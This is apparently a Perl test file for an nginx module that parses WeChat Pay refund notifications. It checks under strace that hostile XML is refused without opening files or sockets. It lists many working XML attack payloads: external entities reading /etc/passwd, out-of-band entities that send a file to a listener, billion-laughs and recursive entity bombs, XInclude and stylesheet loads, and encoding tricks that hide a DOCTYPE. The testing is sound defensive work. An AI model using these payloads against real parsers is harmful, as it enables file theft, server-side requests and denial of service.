#!/usr/bin/perl

# XML that wants a parser to open a file, call a server, grow or recurse: around
# req_info and within what it decrypts to.  All of it is refused, and while it
# is, the process opens no file and no socket, and starts no other, as strace
# sees it; which it would see, for it sees a body that goes to a file.

use lib 't/lib';
use RefundNotify::Test;

use Encode qw(encode);
use IO::Socket::INET;
use RefundNotify::Test::Hostile qw(judge judge_growing edited);
use RefundNotify::Test::Util qw(free_port read_file write_file);

my $conf = <<'EOC';
%%GLOBALS%%
worker_processes 1;

events {
    worker_connections 256;
}

http {
    %%HTTP%%

    log_format notify escape=none '$arg_n|$refund_notify_result'
                                  '|$refund_notify_reason';

    access_log %%DIR%%/notify.log notify;

    %%MERCHANTS%%

    server {
        listen 127.0.0.1:%%PORT%%;

        keepalive_requests 100000;
        refund_notify_deadline 30s;
        refund_notify_max_body_size 1m;

        location = /notify {
            client_body_buffer_size 1100k;
            client_max_body_size 8m;
            refund_notify shop;
            refund_notify_pass /internal/refunds?row=$arg_n name=orders;
        }


        location = /spooled {
            client_body_in_file_only clean;
            refund_notify shop;
            refund_notify_pass /internal/refunds name=orders;
        }

        location = /internal/refunds {
            internal;
            proxy_pass http://127.0.0.1:%%APP%%/refunds;
            include %%ROOT%%/conf/refund_delivery.conf;
        }
    }
}
EOC

my $CANARY = 'what is in this file is nobody\'s business';

my $pay = wechatpay();
my $shop = $pay->merchant(v3_key => [], public_key_id => []);
my $app = business_app();
my $dir = scratch_dir();
my $canary = write_file("$dir/canary", "$CANARY\n");
my $dtd = write_file("$dir/canary.dtd",
                     "<!ENTITY xxe \"$CANARY\">\n");
my $listener = IO::Socket::INET->new(LocalAddr => '127.0.0.1', Proto => 'tcp',
                                     Listen => 16, LocalPort => free_port(),
                                     Blocking => 0)
               or die "a listener: $!\n";
my $host = '127.0.0.1:' . $listener->sockport;
my $trace = "$dir/trace";

# The sanitizers' leak detection does not work under strace.  Where a machine
# lets nobody trace, nothing is proven of files and sockets, and somebody has to
# say that this is known: REFUND_NOTIFY_NO_STRACE=1.

my $traces = !$ENV{REFUND_NOTIFY_SANITIZE} && !$ENV{REFUND_NOTIFY_VALGRIND}
             && !$ENV{REFUND_NOTIFY_NO_STRACE};

if ($traces && system("strace -o $trace true 2>$trace.error") != 0) {
    $traces = 0;
    fail('strace can trace (or else set REFUND_NOTIFY_NO_STRACE=1)');
    diag(read_file("$trace.error"));
}

my $nginx = nginx(with_merchants($conf, $shop),
    vars => { APP => $app->port },
    $traces ? (under => [ 'strace', '-D', '-f', '-qq', '-e', 'signal=none',
                          '-e', 'trace=%file,%process,socket,connect,bind,'
                                . 'listen,socketpair,sendto,sendmsg',
                          '-o', $trace ]) : ());
my $client = client($nginx);

my $DOCTYPE = 'malformed: a DOCTYPE in the XML';
my $INSTRUCTION = 'malformed: a processing instruction in the XML';
my $ATTRIBUTE = 'malformed: an attribute or a namespace in the XML';
my $BROKEN = 'malformed: the XML is not well-formed';
my $CHARACTERS = 'malformed: the XML is not UTF-8';
my $NESTED = 'malformed: an element within a field of the XML';
my $MIXED = 'malformed: text between the fields of the XML';
my $REPEATED = 'malformed: a repeated field in the XML';
my $MANY = 'malformed: too many fields in the XML';
my $NEITHER = 'malformed: neither XML nor JSON';
my $KEY = 'undecryptable: no APIv2 key decrypts req_info';

my @plaintexts;


# Two rows of a change: to the XML around, and to the XML within.

sub around {
    my ($name, $expected, $code) = @_;

    my $notify = edited($pay, $shop, $pay->v2_notify($shop), $code);

    # what is neither format is answered as v3 is

    $notify->{version} = 'v3' if $expected eq $NEITHER;

    return [ "around: $name", $notify, $expected ];
}


sub within {
    my ($name, $expected, $code, @fragments) = @_;

    my $number = RefundNotify::Test::WeChatPay::number();
    my $text = $pay->v2_notify($shop, refund_id => $number)->{plaintext};

    $code->() for $text;
    push @plaintexts, $text if length $text < 10_000;

    return [ "within: $name",
             $pay->v2_notify($shop, refund_id => $number,
                             -plaintext => $text), $expected, @fragments ];
}


sub both {
    my ($name, $around, $within, $code) = @_;

    return (around($name, $around, $code), within($name, $within, $code));
}


sub alike {
    my ($name, $expected, $code) = @_;

    return both($name, $expected, $expected, $code);
}


# A field with this in it, where both documents may have fields that nobody
# knows.

sub field {
    my ($value) = @_;

    s{^(<\w+>)}{$1<x>$value</x>};
    return;
}


# Entities and what they load.  The published forms: OWASP, "XML External Entity
# Prevention"; Morgan and Ibrahim, "XML Schema, DTD, and Entity Attacks" (2014);
# Yunusov and Osipov, "XML Out-Of-Band Data Retrieval" (2013); Kotowicz and
# Vladimir on local DTDs (2018).

my $FILE = "file://$canary";

my @entities = (
    [ 'a file', qq(<!ENTITY xxe SYSTEM "$FILE">), '&xxe;' ],
    [ 'a file by its path', qq(<!ENTITY xxe SYSTEM "$canary">), '&xxe;' ],
    [ 'a file in single quotes', qq(<!ENTITY xxe SYSTEM '$FILE'>), '&xxe;' ],
    [ 'a file by PUBLIC', qq(<!ENTITY xxe PUBLIC "-//x" "$FILE">), '&xxe;' ],
    [ '/etc/passwd', '<!ENTITY xxe SYSTEM "file:///etc/passwd">', '&xxe;' ],
    [ '/dev/random', '<!ENTITY xxe SYSTEM "file:///dev/random">', '&xxe;' ],
    [ 'a directory', '<!ENTITY xxe SYSTEM "file:///">', '&xxe;' ],
    (map { [ "$_:", qq(<!ENTITY xxe SYSTEM "$_://$host/x">), '&xxe;' ] }
         qw(http https ftp gopher ldap dict tftp sftp smb netdoc)),
    [ 'a host by its name', '<!ENTITY xxe SYSTEM "http://localhost/">',
      '&xxe;' ],
    [ 'no scheme', qq(<!ENTITY xxe SYSTEM "//$host/x">), '&xxe;' ],
    [ 'php:', '<!ENTITY xxe SYSTEM "php://filter/read=convert.base64-encode/'
              . qq(resource=$canary">), '&xxe;' ],
    [ 'expect:', '<!ENTITY xxe SYSTEM "expect://id">', '&xxe;' ],
    [ 'data:', '<!ENTITY xxe SYSTEM "data:text/plain;base64,eHh4">', '&xxe;' ],
    [ 'jar:', qq(<!ENTITY xxe SYSTEM "jar:http://$host/x.jar!/x">), '&xxe;' ],
    [ 'an unparsed entity', qq(<!NOTATION n SYSTEM "n"><!ENTITY xxe SYSTEM )
                            . qq("$FILE" NDATA n>), '&xxe;' ],
    [ 'a file as a parameter',
      qq(<!ENTITY % xxe SYSTEM "file://$dtd"> %xxe;), '&xxe;' ],
    [ 'a server as a parameter',
      qq(<!ENTITY % xxe SYSTEM "http://$host/x.dtd"> %xxe;), 'x' ],
    [ 'a parameter that nobody uses',
      qq(<!ENTITY % xxe SYSTEM "http://$host/x.dtd">), 'x' ],
    [ 'out of band: a file sent to a server',
      qq(<!ENTITY % file SYSTEM "$FILE"><!ENTITY % dtd SYSTEM )
      . qq("http://$host/x.dtd"> %dtd; %send;), 'x' ],
    [ 'out of band by a parameter within one',
      qq(<!ENTITY % file SYSTEM "$FILE"><!ENTITY % all "<!ENTITY &#x25; send )
      . qq(SYSTEM 'ftp://$host/%file;'>"> %all; %send;), 'x' ],
    [ 'a local DTD used again',
      qq{<!ENTITY % local SYSTEM "file://$dtd"><!ENTITY % expr 'a)>}
      . qq{<!ENTITY &#x25; file SYSTEM "$FILE"><!ENTITY &#x25; eval }
      . q{"<!ENTITY &#x26;#x25; error SYSTEM &#x27;file:///x/&#x25;file;}
      . q{&#x27;>">&#x25;eval;&#x25;error;<!ELEMENT x (y'> %local;}, 'x' ],
    [ 'a file between CDATA\'s ends',
      qq(<!ENTITY % a "<![CDATA["><!ENTITY % f SYSTEM "$FILE">)
      . qq(<!ENTITY % z "]]>"><!ENTITY % d SYSTEM "http://$host/x"> %d;),
      '&all;' ],
    [ 'an entity in small', '<!ENTITY a "b">', '&a;' ],
    [ 'an entity of one of the five names', '<!ENTITY lt "&#38;#60;">',
      '&lt;' ],
    [ 'an attribute by default', '<!ATTLIST xml a CDATA "b">', 'x' ],
    [ 'an element\'s content', '<!ELEMENT xml ANY>', 'x' ],

    # bombs

    [ 'a billion laughs',
      '<!ENTITY a0 "ha">'
      . join('', map { "<!ENTITY a$_ \"" . ('&a' . ($_ - 1) . ';') x 10
                       . '">' } 1 .. 9), '&a9;' ],
    [ 'parameters that laugh',
      '<!ENTITY % p0 "ha">'
      . join('', map { my $of = $_ - 1;
                       "<!ENTITY % p$_ '" . "&#37;p$of;" x 10 . "'> %p$_;" }
                     1 .. 9), 'x' ],
    [ 'one large entity, often', '<!ENTITY a "' . 'a' x 20_000 . '">',
      '&a;' x 20_000 ],
    [ 'an entity of itself', '<!ENTITY a "&a;">', '&a;' ],
    [ 'two of one another', '<!ENTITY a "&b;"><!ENTITY b "&a;">', '&a;' ],
    [ 'a parameter of itself', '<!ENTITY % a "%a;"> %a;', 'x' ],
    [ 'ten thousand entities',
      join('', map { "<!ENTITY a$_ 'b'>" } 1 .. 10_000), '&a1;' ],
);

# a DOCTYPE that wants something from outside itself, and ones of odd forms

my @doctypes = (
    [ 'SYSTEM of a file', qq(<!DOCTYPE x SYSTEM "file://$dtd">) ],
    [ 'SYSTEM of a server', qq(<!DOCTYPE x SYSTEM "http://$host/x.dtd">) ],
    [ 'PUBLIC', qq(<!DOCTYPE x PUBLIC "-//W3C//DTD SVG 1.1//EN" )
                . qq("http://$host/svg11.dtd">) ],
    [ 'PUBLIC in a catalogue', '<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0 '
      . 'Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">' ],
    [ 'SYSTEM and a subset', qq(<!DOCTYPE x SYSTEM "http://$host/x.dtd" [ )
                             . qq(<!ENTITY xxe SYSTEM "$FILE"> ]>) ],
    [ 'nothing', '<!DOCTYPE x>' ],
    [ 'an empty subset', '<!DOCTYPE x []>' ],
    [ 'lines', "<!DOCTYPE\r\n\tx\n[\n<!ENTITY xxe SYSTEM\n\"$FILE\">\n]\n>" ],
    [ 'a comment before', "<!-- <x> --><!DOCTYPE x SYSTEM '$FILE'>" ],
    [ 'comments before', '<!---->' x 1000 . "<!DOCTYPE x SYSTEM '$FILE'>" ],
    [ 'white space before', " \n\t" x 100 . "<!DOCTYPE x SYSTEM '$FILE'>",
      $KEY ],
    [ 'a declaration before',
      qq(<?xml version="1.0" standalone="no"?><!DOCTYPE x SYSTEM "$FILE">) ],
    [ 'version 1.1 before',
      qq(<?xml version="1.1"?><!DOCTYPE x SYSTEM "$FILE">) ],
    [ 'what looks like a comment around', "<!--x--><!DOCTYPE x [<!--]>-->"
      . "<!ENTITY xxe SYSTEM '$FILE'>]>" ],
);

# what is no DOCTYPE

my @others = (
    [ 'an instruction before a DOCTYPE', $INSTRUCTION,
      sub { s/^/<?x y?><!DOCTYPE x SYSTEM "$FILE">/ } ],
    [ 'a stylesheet', $INSTRUCTION,
      sub { s{^}{<?xml-stylesheet type="text/xsl" href="http://$host/x"?>} } ],
    [ 'a stylesheet\'s document()', $ATTRIBUTE,
      sub { field(q(<xsl:value-of xmlns:xsl="http://www.w3.org/1999/XSL/)
                  . qq(Transform" select="document('$FILE')"/>)) } ],
    [ 'a catalogue', $INSTRUCTION,
      sub { s{^}{<?oasis-xml-catalog catalog="http://$host/x"?>} } ],
    [ 'an instruction at the end', $INSTRUCTION, sub { s/$/<?x?>/ } ],
    [ 'PHP', $INSTRUCTION, sub { field('<?php readfile($_GET[0]) ?>') } ],
    [ 'a declaration that is not first', $BROKEN,
      sub { s/^/<!-- --><?xml version="1.0"?>/ } ],
    [ 'a DOCTYPE in small letters', $BROKEN,
      sub { s/^/<!doctype x SYSTEM "$FILE">/ } ],
    [ 'a DOCTYPE behind the root\'s tag', $BROKEN,
      sub { s/^(<\w+>)/$1<!DOCTYPE x SYSTEM "$FILE">/ } ],
    [ 'a DOCTYPE at the end', $BROKEN,
      sub { s/$/<!DOCTYPE x SYSTEM "$FILE">/ } ],
    [ 'a DOCTYPE that does not end', $DOCTYPE,
      sub { $_ = '<!DOCTYPE x [' } ],
    [ 'half a word of it', $BROKEN, sub { $_ = '<!DOCTYP' } ],
    [ 'an entity without a DOCTYPE', $BROKEN,
      sub { s/^/<!ENTITY xxe SYSTEM "$FILE">/ } ],
    [ 'an entity that nobody declared', $BROKEN, sub { field('&xxe;') } ],
    [ 'an entity of HTML\'s', $BROKEN, sub { field('&nbsp;') } ],
    [ 'a parameter\'s reference', [ malformed => qr/./ ],
      sub { s/^(<\w+>)/$1%xxe;/ } ],

    [ 'XInclude of text', $ATTRIBUTE, sub {
        field(q(<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" )
              . qq(parse="text" href="$FILE"/>)) } ],
    [ 'XInclude of XML', $ATTRIBUTE, sub {
        s{^<\w+}{$& xmlns:xi="http://www.w3.org/2001/XInclude"};
        s{^[^>]*>}{$&<xi:include href="http://$host/x"/>} } ],
    [ 'XInclude without its namespace', [ malformed => qr/./ ],
      sub { field('<xi:include><xi:fallback/></xi:include>') } ],
    [ 'an image of SVG', $ATTRIBUTE, sub {
        field(q(<svg xmlns="http://www.w3.org/2000/svg"><image )
              . qq(href="$FILE"/></svg>)) } ],
    [ 'the place of a schema', $ATTRIBUTE, sub {
        s{^<\w+}{$& xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance" )
                 xsi:noNamespaceSchemaLocation="http://$host/x.xsd"} } ],
    [ 'xml:base', $ATTRIBUTE, sub { s{^<\w+}{$& xml:base="http://$host/"} } ],
    [ 'a SOAP header', $ATTRIBUTE, sub {
        $_ = '<s:Envelope xmlns:s="http://schemas.xmlsoap.org/soap/envelope/">'
             . "$_</s:Envelope>" } ],
);


# Encodings.  libxml2 would take most of these for what they are, and what looks
# through the bytes for "<!DOCTYPE" does not see it.

my $xxe = qq(<!DOCTYPE xml [<!ENTITY xxe SYSTEM "$FILE">]><xml>&xxe;</xml>);
my $utf7 = qq(+ADw-!DOCTYPE xml +AFs-+ADw-!ENTITY xxe SYSTEM +ACI-$FILE+ACI-)
           . '+AD4-+AF0-+AD4-+ADw-xml+AD4-+ACY-xxe+ADs-+ADw-/xml+AD4-';

my @encodings = (
    [ 'UTF-16 BE', $NEITHER, encode('UTF-16BE', $xxe) ],
    [ 'UTF-16 BE with a mark', $NEITHER, encode('UTF-16', $xxe) ],
    [ 'UTF-16 LE', $CHARACTERS, encode('UTF-16LE', $xxe) ],
    [ 'UTF-16 LE with a mark', $NEITHER,
      "\xff\xfe" . encode('UTF-16LE', $xxe) ],
    [ 'UTF-32 BE', $NEITHER, encode('UTF-32BE', $xxe) ],
    [ 'UTF-32 BE with a mark', $NEITHER, encode('UTF-32', $xxe) ],
    [ 'UTF-32 LE', $CHARACTERS, encode('UTF-32LE', $xxe) ],
    [ 'UTF-32 LE with a mark', $NEITHER,
      "\xff\xfe\0\0" . encode('UTF-32LE', $xxe) ],
    [ 'UTF-8 with a mark', $NEITHER, "\xef\xbb\xbf$xxe" ],
    [ 'EBCDIC', $NEITHER, encode('cp37', $xxe) ],
    [ 'UTF-7', $NEITHER, $utf7 ],
    [ 'UTF-7 that is declared', $BROKEN,
      qq(<?xml version="1.0" encoding="UTF-7"?>$utf7) ],
    [ 'UTF-16 that is declared in UTF-8', $DOCTYPE,
      qq(<?xml version="1.0" encoding="UTF-16"?>$xxe) ],
    [ 'UTF-16 behind a declaration in UTF-8', $CHARACTERS,
      '<?xml version="1.0" encoding="UTF-16LE"?>' . encode('UTF-16LE', $xxe) ],
    (map { [ "$_ that is declared", $DOCTYPE,
             qq(<?xml version="1.0" encoding="$_"?>$xxe) ] }
         qw(ISO-8859-1 GBK HZ ISO-2022-JP UCS-4 EBCDIC-CP-US x-user-defined)),
    [ 'overlong UTF-8', $CHARACTERS, "<\xc0\xa1DOCTYPE xml><xml/>" ],
    [ 'a NUL in DOCTYPE', $CHARACTERS, $xxe =~ s/DOC/$&\0/r ],
);


# What only grows, in the 1 MB that the module takes at the most, whatever is
# configured (below): a million elements or attributes do not fit into it, so as
# many as do.

my $large = 1000 * 1024;


# As often as fits into so many bytes; within, base64 makes four of three.

sub often {
    my ($text, $bytes) = @_;

    return $text x int($bytes / length $text);
}


sub numbered {
    my ($form, $bytes) = @_;

    my ($text, $n) = ('', 0);

    $text .= sprintf $form, $n++ while length $text < $bytes;
    return $text;
}


sub growing {
    my ($wrap, $bytes) = @_;

    return (
        $wrap->('open tags', $NESTED, sub { s/<.*/often('<a>', $bytes)/es }),
        $wrap->('tags in tags', $NESTED,
                sub { field(often('<a>', $bytes / 2)
                            . often('</a>', $bytes / 2)) }),
        $wrap->('empty elements', $REPEATED,
                sub { s/^<\w+>/$& . often('<a\/>', $bytes)/e }),
        $wrap->('elements of different names', $MANY,
                sub { s/^<\w+>/$& . numbered('<a%x\/>', $bytes)/e }),
        $wrap->('attributes', $ATTRIBUTE,
                sub { s/^<\w+/$& . numbered(" a%x=''", $bytes)/e }),
        $wrap->('one attribute, often', $ATTRIBUTE,
                sub { s/^<\w+/$& . often(" a=''", $bytes)/e }),
        $wrap->('namespaces', $ATTRIBUTE,
                sub { s/^<\w+/$& . numbered(" xmlns:a%x='b'", $bytes)/e }),
        $wrap->('attributes without a value', $BROKEN,
                sub { s/^<\w+/$& . numbered(" a%x", $bytes)/e }),
        $wrap->('one long attribute', $ATTRIBUTE,
                sub { s/^<\w+/$& . ' a="' . 'x' x $bytes . '"'/e }),
        $wrap->('a long name', $BROKEN,
                sub { s/^<\w+>/"$&<" . 'a' x $bytes . '\/>'/e }),
        $wrap->('a long name that is not closed', $BROKEN,
                sub { $_ = '<' . 'a' x $bytes }),
        $wrap->('a long instruction', [ malformed => qr/./ ],
                sub { s/^/'<?x ' . 'a' x $bytes . '?>'/e }),
        $wrap->('a comment that does not end', $BROKEN,
                sub { s/^/'<!--' . 'a' x $bytes/e }),
        $wrap->('minus signs', $BROKEN,
                sub { s/^/'<!--' . '-' x $bytes . '>'/e }),
        $wrap->('CDATA that does not end', $BROKEN,
                sub { field('<![CDATA[' . ']' x $bytes) }),
        $wrap->('left angles', $BROKEN, sub { $_ = '<' x $bytes }),
        $wrap->('ampersands', $BROKEN, sub { field('&' x $bytes) }),
        $wrap->('white space only', $wrap == \&around ? $NEITHER : $KEY,
                sub { $_ = ' ' x $bytes }),
        $wrap->('end tags', $BROKEN, sub { $_ = often('</a>', $bytes) }),
    );
}


my @hostile = (
    (map { my ($name, $declarations, $value) = @$_;
           both("an entity: $name", $DOCTYPE, $DOCTYPE, sub {
               s/^/<!DOCTYPE x [$declarations]>/;
               s{^(.*?\]>)(<\w+>)}{$1$2<x>$value</x>}s;
           }) } @entities),
    (map { my ($name, $doctype, $within) = @$_;
           both("a DOCTYPE: $name", $DOCTYPE, $within // $DOCTYPE,
                sub { s/^/$doctype/; field('&xxe;') }) } @doctypes),
    (map { my ($name, $expected, $code) = @$_;
           alike($name, $expected, $code) } @others),
    (map { my ($name, $expected, $bytes) = @$_;
           both("in $name", $expected,
                $expected eq $NEITHER ? $KEY : $expected,
                sub { $_ = $bytes }) } @encodings),
);


# The controls begin and end what is looked at: a body that goes to a file, and
# before it a delivery, which wants a socket.

sub control {
    my ($name) = @_;

    my $notify = $pay->v2_notify($shop);

    is($pay->answer($notify, $client->post('/spooled', $notify)), 'SUCCESS',
       "a control $name");
    return;
}

control('before');
judge($nginx, $app, @hostile);
judge_growing($nginx, $app, sub { growing(\&around, $_[0]) }, $large - 2000);
judge_growing($nginx, $app, sub { growing(\&within, $_[0]) },
              $large * 3 / 4 - 2000);
control('after');

SKIP: {
    skip 'what the process does is not traced here', 3 if !$traces;

    my $temp = quotemeta $nginx->path('client_body');
    my @calls = split /\n/, read_file($trace);
    my @spooled = grep { $calls[$_] =~ /openat\(.*$temp/ } 0 .. $#calls;

    is(scalar @spooled, 2, 'strace sees the files of the controls');
    is(scalar(grep { /connect\(.*htons\(@{[ $app->port ]}\)/ } @calls), 2,
       'and the connections of their deliveries');

    # the file of the first is removed when its delivery has ended; a build for
    # make coverage writes its counts, and asks how large an open file is

    my ($delivery) = grep { $calls[$_] =~ /connect\(/ } $spooled[0] .. $#calls;
    my @odd = grep { !/ unlink\("$temp|\.gcda"| newfstatat\(\d+, "",/ }
                   @calls[$delivery + 1 .. $spooled[1] - 1];

    diag($_) for @odd[0 .. ($#odd > 20 ? 20 : $#odd)];
    is(scalar @odd, 0, 'and that in between nothing was opened or started');
}

ok(!$listener->accept, 'nobody has called the server');

my $call = IO::Socket::INET->new(PeerAddr => $host);
ok(wait_until(sub { $listener->accept }), 'which would have noticed');


# A million levels are 3 MB.  refund_notify_max_body_size can be no more than
# 1 MB, and a larger client_max_body_size changes nothing: no parser sees them.

for ([ 'whose length is told' ], [ 'in chunks', chunked => 65536 ]) {
    my ($how, @option) = @$_;

    is($client->request('POST', '/notify?n=deep', [],
                        '<a>' x 1_000_000, @option)->{status}, 413,
       "a million levels, $how");
}


# What is XML of the kind that WeChat Pay sends, written otherwise, is taken for
# what it is: https://www.w3.org/TR/xml/, sections 2.4, 2.5, 2.7, 4.1 and 4.6.

sub account {
    my ($value) = @_;

    s{(<refund_recv_accout>).*?(</)}{$1$value$2};
    return;
}

my $ACCOUNT = '"user_received_account":';

judge($nginx, $app,
    (map { my ($name, $value, $read) = @$_;
           within("a value with $name", 'delivered', sub { account($value) },
                  qq($ACCOUNT"$read")) }
         [ 'CDATA in pieces', '<![CDATA[a]]><![CDATA[b]]>c<![CDATA[d]]>',
           'abcd' ],
         [ 'CDATA\'s end in it', '<![CDATA[a]]]]><![CDATA[>b]]>', 'a]]>b' ],
         [ 'an entity within CDATA', '<![CDATA[&amp;&xxe;&#65;]]>',
           '&amp;&xxe;&#65;' ],
         [ 'a DOCTYPE within CDATA',
           "<![CDATA[<!DOCTYPE x SYSTEM '$FILE'>]]>",
           "<!DOCTYPE x SYSTEM '$FILE'>" ],
         [ 'a tag within CDATA', '<![CDATA[<a b=\'c\'>]]>', '<a b=\'c\'>' ],
         [ 'CDATA\'s start twice', '<![CDATA[<![CDATA[a]]>',
           '<![CDATA[a' ],
         [ 'an empty CDATA', 'a<![CDATA[]]>b', 'ab' ],
         [ 'a comment', 'a<!-- b -->c', 'ac' ],
         [ 'a comment with a tag', 'a<!-- <b c="d"> ]]> &e; -->f', 'af' ],
         [ 'references to characters', '&#65;&#x42;&#x0043;&#x4e2D;', 'ABC中' ],
         [ 'a reference beyond 16 bits', '&#128512;', '😀' ],
         [ 'a reference twice over', '&amp;lt;&#38;#60;', '&lt;&#60;' ],
         [ 'the five entities', '&lt;&gt;&amp;&quot;&apos;',
           '<>&\\"\'' ],
         [ 'white space', " a\r\nb\rc\td ", ' a\\nb\\nc\\td ' ],
         [ 'a parameter\'s reference, which is none here', '%xxe;', '%xxe;' ]),
    within('white space in the tags', 'delivered',
           sub { s/<(\/?\w+)>/<$1 \n>/g }),
    within('white space around', 'delivered', sub { s/^|$/\r\n\t /g }),
    within('comments around', 'delivered', sub { s/^|$/<!-- a -->/g }),
    within('a declaration', 'delivered',
           sub { s/^/<?xml version='1.0' encoding='GB18030'?>\n/ }),
    within('many references', 'delivered', sub { account('&amp;' x 1000) },
           $ACCOUNT . '"' . '&' x 1000 . '"'),
);


# And what is not, or is not of this kind.

judge($nginx, $app,
    (map { my ($name, $value, $expected) = @$_;
           alike("a value with $name", $expected // $BROKEN,
                     sub { field($value) }) }
         [ ']]>', 'a]]>b' ], [ 'CDATA\'s end too often', '<![CDATA[a]]>]]>' ],
         [ 'CDATA in small letters', '<![cdata[a]]>' ],
         [ 'CDATA with a space', '<! [CDATA[a]]>' ],
         [ 'two minus signs in a comment', '<!-- a -- b -->' ],
         [ 'three at a comment\'s end', '<!-- a --->' ],
         [ 'an ampersand', 'a&b' ], [ 'an open reference', '&#65' ],
         [ 'an empty reference', '&;' ], [ 'a reference to nothing', '&#;' ],
         [ 'a reference in no hexadecimal', '&#xg;' ],
         [ 'a negative reference', '&#-65;' ],
         [ 'a reference to NUL', '&#0;' ], [ 'a control character', '&#27;' ],
         [ 'a reference to a surrogate', '&#xd800;' ],
         [ 'a pair of them', '&#xd83d;&#xde00;' ],
         [ 'U+FFFF', '&#xffff;' ], [ 'beyond Unicode', '&#x110000;' ],
         [ 'beyond 32 bits', '&#4294967361;' ],
         [ 'beyond 64 bits', '&#18446744073709551681;' ],
         [ 'U+FFFE in bytes', "\xef\xbf\xbe" ],
         [ 'a control character in bytes', "\x1b" ],
         [ 'a NUL in bytes', "\0", $CHARACTERS ],
         [ 'a surrogate in bytes', "\xed\xa0\x80", $CHARACTERS ],
         [ 'GBK', "\xd6\xd0", $CHARACTERS ],
         [ 'an element', '<b/>', $NESTED ],
         [ 'an element between text', 'a<b>c</b>d', $NESTED ],
         [ 'an instruction', 'a<?b?>c', $INSTRUCTION ]),
    alike('text between', $MIXED, sub { s/^<\w+>/$&text/ }),
    alike('a reference between', $MIXED, sub { s/^<\w+>/$&&#65;/ }),
    around('a reference before', $NEITHER, sub { s/^/&#32;/ }),
    within('a reference before', $KEY, sub { s/^/&#32;/ }),
    alike('CDATA between', $MIXED, sub { s/^<\w+>/$&<![CDATA[x]]>/ }),
    alike('CDATA before', $BROKEN, sub { s/^/<![CDATA[x]]>/ }),
    alike('two roots', $BROKEN, sub { $_ .= $_ }),
    alike('an attribute', $ATTRIBUTE, sub { s/^<\w+/$& a='b'/ }),
    alike('a namespace', $ATTRIBUTE, sub { s/^<\w+/$& xmlns='a'/ }),
    alike('a prefix that nobody declared', $ATTRIBUTE,
              sub { s{^<\w+>}{$&<a:b/>} }),
    alike('an attribute twice', $ATTRIBUTE,
              sub { s/^<\w+/$& a='b' a='b'/ }),
    alike('a field twice, alike', $REPEATED,
              sub { s{<\w+>[^<]*<!\[CDATA.*?</\w+>}{$&$&} }),
    alike('tags that cross', $BROKEN,
              sub { s{^<\w+>}{$&<a>1</b></a>} }),
    alike('a tag in capitals', $BROKEN, sub { s/^<(\w+)/<\U$1/ }),
    alike('a name that begins with a digit', $BROKEN,
              sub { s{^<\w+>}{$&<1>2</1>} }),
    around('another mch_id, first', $REPEATED,
           sub { s/^<xml>/$&<mch_id>1<\/mch_id>/ }),
    around('req_info twice', $REPEATED,
           sub { s/<req_info>.*<\/req_info>/$&$&/ }),
    within('another refund_fee, last', $REPEATED,
           sub { s/<\/root>/<refund_fee>1<\/refund_fee>$&/ }),
    within('refund_fee in an empty tag and another', $REPEATED,
           sub { s/<root>/<root><refund_fee\/>/ }),
);

no_secrets($nginx, $pay->secrets($shop), $CANARY, $FILE,
           grep({ length > 15 } @plaintexts), '支付用户零钱');

done_testing;
